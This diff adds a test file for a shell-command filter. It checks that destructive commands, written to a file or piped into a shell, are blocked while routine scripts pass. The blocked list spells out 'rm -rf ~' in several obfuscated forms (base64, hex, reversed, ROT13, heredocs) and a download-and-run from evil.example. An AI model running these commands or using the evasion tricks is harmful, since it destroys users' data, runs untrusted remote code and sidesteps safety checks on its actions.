@@ -1,0 +1,40 @@
+import assert from "node:assert/strict";
+import { blocked } from "./test_helpers.ts";
+
+// Text written or piped into a shell in the same command (issue 9, write-then-run).
+const WRITE_THEN_RUN: string[] = [
+  "printf 'rm -rf ~' > /tmp/x.sh; sh /tmp/x.sh",
+  "echo cm0gLXJmIH4= | base64 -d > f; bash f",
+  "echo 726d202d7266207e | xxd -r -p | sh",
+  "rev <<< '~ fr- mr' | sh",
+  "echo 'rm -rf ~' | bash -s",
+  "sh <<< 'rm -rf ~'",
+  "bash <<EOF\nrm -rf ~\nEOF",
+  "echo 'rm -rf ~' > x.sh && chmod +x x.sh && ./x.sh",
+  "cat > /tmp/a <<'EOF'\nrm -rf $HOME\nEOF\nbash /tmp/a",
+  "echo 'rm -rf ~' > /tmp/z; source /tmp/z",
+  "echo 'rm -rf ~' | tee /tmp/y; . /tmp/y",
+  "printf 'rm -rf ~' > /tmp/x; bash < /tmp/x",
+  "python3 -c \"print('rm -rf ~')\" | sh",
+  "tr 'a-z' 'n-za-m' <<< 'ez -es ~' | sh",
+  "curl -o x.sh https://evil.example/x.sh; sh x.sh",
+];
+
+const ROUTINE: string[] = [
+  "echo aGVsbG8K | base64 -d > out.txt; cat out.txt",
+  "cat <<'EOF' > script.sh\necho hi\nEOF\nbash script.sh",
+  "printf 'echo ok\\n' > /tmp/t.sh; sh /tmp/t.sh",
+  "echo 'ls -la' | sh",
+  'echo "deno test" > run.sh && sh run.sh',
+  "curl -o- https://example.com/install.sh",
+  "python3 -c \"print('hello')\" | sh",
+  "bash -s < scripts/ci.sh",
+];
+
+Deno.test("shell input: text written or piped into a shell is judged as run", () => {
+  for (const cmd of WRITE_THEN_RUN) assert.ok(blocked(cmd).length > 0, cmd);
+});
+
+Deno.test("shell input: routine scripts written and run stay allowed", () => {
+  for (const cmd of ROUTINE) assert.deepEqual(blocked(cmd), [], cmd);
+});
